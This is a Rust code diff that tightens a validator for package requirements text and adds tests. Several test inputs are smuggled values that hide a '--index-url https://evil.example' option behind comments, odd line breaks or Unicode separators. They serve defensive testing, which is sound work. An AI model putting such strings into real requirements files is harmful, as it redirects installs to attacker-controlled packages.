@@ -14,12 +14,17 @@ pub fn check_requirements(text: &str) -> Result<(), &'static str> {
     if text.len() > MAX_REQUIREMENTS_BYTES || text.lines().count() > MAX_REQUIREMENTS_LINES {
         return Err("must be at most 16 KiB and 256 lines");
     }
-    let is_strange = |char: char| char.is_control() && !matches!(char, '\n' | '\r' | '\t');
-    if text.contains(is_strange) {
-        return Err("must be text without control characters");
+    // Installers end a line at other characters, too, such as U+2028 and a carriage return alone.
+    let text = text.replace("\r\n", "\n");
+    if text.contains(|char: char| !matches!(char, '\n' | '\t' | ' '..='~')) {
+        return Err("must be ASCII text without control characters");
+    }
+    // Some installers continue a comment in the next line, others end it.
+    if text.lines().any(|line| line.contains('#') && line.contains('\\')) {
+        return Err("must not have a backslash in a line with a comment");
     }
     let mut has_package = false;
-    for line in text.replace("\\\r\n", " ").replace("\\\n", " ").lines() {
+    for line in text.replace("\\\n", " ").lines() {
         let line = line.trim();
         if line.is_empty() || line.starts_with('#') {
             continue;
@@ -80,6 +85,12 @@ mod tests {
             "x \\\n --index-url https://evil.example",
             "x==${VERSION}",
             "x\u{1b}",
+            "x # note \\\n--index-url https://evil.example",
+            "# note \\\n--index-url https://evil.example\nx",
+            "x # note\r--index-url https://evil.example",
+            "x # note\u{2028}--index-url https://evil.example",
+            "x # note\u{85}--index-url https://evil.example",
+            "ｘ",
         ] {
             assert!(check_requirements(wrong).is_err(), "{wrong}");
         }
